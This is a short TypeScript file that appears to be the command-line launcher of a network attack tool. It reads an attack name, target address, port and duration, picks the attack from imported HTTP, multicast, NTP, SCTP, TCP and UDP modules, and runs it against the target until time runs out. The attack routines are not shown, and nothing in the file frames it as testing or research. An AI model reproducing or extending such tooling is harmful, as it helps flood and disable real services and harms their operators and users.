/** The program of `startAttack`: ATTACK ADDRESS PORT SECONDS. */
import type { Attack } from './attack.ts'
import { httpAttacks } from './http-attacks.ts'
import { multicastAttacks } from './multicast-attacks.ts'
import { ntpAttacks } from './ntp-attacks.ts'
import { sctpAttacks } from './sctp-attacks.ts'
import { tcpAttacks } from './tcp-attacks.ts'
import { udpAttacks } from './udp-attacks.ts'

const attacks: Readonly<Record<string, Attack>> = {
  ...httpAttacks,
  ...multicastAttacks,
  ...ntpAttacks,
  ...sctpAttacks,
  ...tcpAttacks,
  ...udpAttacks,
}
const [name = '', address = '', port, seconds] = process.argv.slice(2)
const attack = attacks[name]
if (attack === undefined) throw new Error(`no attack ${name}`)
const signal = AbortSignal.timeout(Number(seconds) * 1_000)
process.stdout.write(JSON.stringify(await attack({ address, port: Number(port) }, signal)))
